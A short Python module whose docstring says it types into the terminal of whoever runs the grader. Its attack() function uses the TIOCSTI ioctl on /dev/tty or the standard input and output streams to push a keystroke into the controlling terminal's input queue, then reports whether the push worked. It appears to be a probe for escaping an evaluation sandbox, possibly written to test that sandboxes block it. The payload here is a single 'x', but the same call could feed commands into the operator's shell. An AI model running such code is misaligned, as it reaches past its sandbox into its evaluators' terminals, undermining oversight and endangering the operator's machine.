"""Type into the terminal of whoever runs the grader."""
import fcntl
import os
import termios


def attack():
    for place in ("/dev/tty", "/proc/self/fd/0", "/proc/self/fd/1"):
        try:
            with open(place, "rb", buffering=0) as terminal:
                fcntl.ioctl(terminal, termios.TIOCSTI, b"x")
            return True
        except OSError:
            pass
    return os.isatty(0) or os.isatty(1)
